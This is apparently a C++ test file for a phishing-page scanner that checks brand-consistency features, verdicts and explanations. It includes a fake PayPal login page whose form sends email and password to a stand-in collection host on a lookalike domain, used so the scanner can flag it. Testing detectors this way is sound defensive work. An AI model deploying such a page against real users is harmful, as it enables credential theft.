#include "bdi/error.hpp"
#include "bdi/scanner.hpp"
#include "support/fixtures.hpp"

#include <doctest.h>
#include <json.hpp>

using namespace bdi;
using fixtures::StubResponse;
using fixtures::StubServer;

namespace {

const TrainedModel& demo() {
    static const TrainedModel m = load_model(std::string(BDI_MODELS_DIR) + "/demo-rf.json");
    return m;
}

std::array<int, 5> ints(const FeatureVector& v) {
    std::array<int, 5> out{};
    for (std::size_t i = 0; i < 5; ++i) out[i] = static_cast<int>(v.codes[i]);
    return out;
}

std::string phishing_page() {
    return R"(<html><head><title>Sign in</title></head><body>
<img src="https://www.paypal.com/images/paypal-logo.png" alt="PayPal">
<a href="https://www.paypal.com/help">Help</a>
<a href="https://www.paypal.com/privacy">Privacy</a>
<a href="https://www.paypal.com/legal">Legal</a>
<a href="/reset">Reset</a>
<form method="post" action="https://collect.drop-box-files.net/p.php">
<input name="email"><input name="password" type="password">
</form></body></html>)";
}

}  // namespace

TEST_CASE("facebook page scans as all-match") {
    const auto r = scan_snapshot(fixtures::facebook_walkthrough(), demo(), fixtures::psl());
    CHECK(ints(r.vector) == std::array<int, 5>{1, 1, 1, 1, 1});
    CHECK(r.parts.root_domain == "facebook.com");
    CHECK(r.verdict == Label::legitimate);
    CHECK_FALSE(r.insufficient_evidence);
    CHECK(r.model_id == model_id(demo()));
    REQUIRE(r.explanation.size() == 5);
    CHECK(r.explanation[2].detail.find("matches") != std::string::npos);

    const auto gh = scan_snapshot(fixtures::github_facebook_variant(), demo(), fixtures::psl());
    CHECK(ints(gh.vector) == std::array<int, 5>{1, 1, -1, 1, 1});
    CHECK(gh.explanation[2].detail.find("github-facebook.com") != std::string::npos);
    CHECK(gh.explanation[2].detail.find("conflicts") != std::string::npos);
}

TEST_CASE("a page without evidence encodes to zeros") {
    const auto snap = fixtures::make_snapshot("http://www.quiet.example.org/", std::nullopt, {}, std::nullopt);
    const auto r = scan_snapshot(snap, demo(), fixtures::psl());
    CHECK(ints(r.vector) == std::array<int, 5>{0, 0, 0, 0, 0});
    CHECK(r.insufficient_evidence);
    CHECK(r.verdict == predict(demo(), r.vector));
}

TEST_CASE("explanations agree with the vector") {
    for (int iter = 0; iter < 243; ++iter) {
        std::array<Code, 5> codes{};
        int rest = iter;
        for (auto& c : codes) {
            c = *code_from_int(rest % 3 - 1);
            rest /= 3;
        }
        const auto r = scan_snapshot(fixtures::snapshot_for_codes(codes), demo(), fixtures::psl());
        REQUIRE(r.explanation.size() == 5);
        CHECK(r.vector.codes == codes);
        std::size_t absent = 0;
        for (std::size_t i = 0; i < 5; ++i) {
            const auto& e = r.explanation[i];
            CHECK(e.feature == kAllFeatures[i]);
            CHECK(e.code == codes[i]);
            CHECK(e.identified.has_value() == (codes[i] != Code::absent));
            if (e.identified) CHECK(e.detail.find(*e.identified) != std::string::npos);
            absent += codes[i] == Code::absent;
        }
        CHECK(r.insufficient_evidence == (absent >= 3));
        CHECK(r.verdict == predict(demo(), r.vector));
    }
}

TEST_CASE("offline scans are deterministic") {
    fixtures::TempDir dir;
    const auto path = save_snapshot(fixtures::github_facebook_variant(), dir.path());
    const auto a = scan_offline(path, demo(), fixtures::psl());
    const auto b = scan_offline(path, demo(), fixtures::psl());
    CHECK(a.vector == b.vector);
    CHECK(a.verdict == b.verdict);
    CHECK(a.explanation.size() == b.explanation.size());
    for (std::size_t i = 0; i < a.explanation.size(); ++i) CHECK(a.explanation[i].detail == b.explanation[i].detail);

    auto ja = nlohmann::json::parse(scan_result_json(a));
    auto jb = nlohmann::json::parse(scan_result_json(b));
    ja.erase("elapsed");
    jb.erase("elapsed");
    CHECK(ja == jb);
    CHECK_THROWS_AS(scan_offline(dir.path() / "missing.json", demo(), fixtures::psl()), Error);
}

TEST_CASE("scan result JSON") {
    const auto r = scan_snapshot(fixtures::facebook_walkthrough(), demo(), fixtures::psl());
    const auto j = nlohmann::json::parse(scan_result_json(r));
    for (const char* key : {"url", "final_url", "parts", "identified", "vector", "verdict", "explanation",
                            "insufficient_evidence", "model_id", "elapsed", "notes"}) {
        CHECK(j.contains(key));
    }
    CHECK(j["verdict"] == "F");
    CHECK(j["vector"]["CN"] == 1);
    CHECK(j["identified"]["CD"] == "facebook.com");
    CHECK(j["explanation"].size() == 5);
    const auto text = scan_result_text(r);
    CHECK(text.find("facebook.com") != std::string::npos);
}

TEST_CASE("scan fetches and flags a conflicting brand") {
    StubServer server(
        true,
        [](const std::string& path) {
            StubResponse r;
            if (path == "/") {
                r.headers = {{"Set-Cookie", "sid=9; Path=/; Domain=.paypal-verify-account.com"}};
                r.body = phishing_page();
            } else {
                r.status = 404;
            }
            return r;
        },
        "www.paypal.com");
    const std::string host = "secure.paypal-verify-account.com";
    const auto r = scan(server.origin(host) + "/", demo(), server.policy({host}), fixtures::psl());
    CHECK(r.parts.root_domain == "paypal-verify-account.com");
    CHECK(ints(r.vector) == std::array<int, 5>{-1, -1, -1, -1, 1});
    CHECK(r.identified.form_action == std::optional<std::string>("collect.drop-box-files.net"));
    CHECK(r.identified.cn == std::optional<std::string>("paypal.com"));
    CHECK(r.explanation[0].detail.find("drop-box-files.net") != std::string::npos);
    CHECK(r.explanation[0].detail.find("paypal-verify-account.com") != std::string::npos);
    CHECK(r.verdict == Label::phishing);
}

TEST_CASE("unreachable targets fail the scan") {
    int closed_port = 0;
    {
        StubServer probe(false, [](const std::string&) { return StubResponse{}; });
        closed_port = probe.port();
    }
    FetchPolicy policy;
    policy.connect_timeout = std::chrono::milliseconds(1000);
    policy.resolve_overrides["down.test"] = "127.0.0.1";
    try {
        scan("http://down.test:" + std::to_string(closed_port) + "/", demo(), policy, fixtures::psl());
        FAIL("scanned a closed port");
    } catch (const Error& e) {
        CHECK(e.code() == ErrorCode::scan_failed);
        CHECK(std::string(e.what()).starts_with("connect"));
    }
}
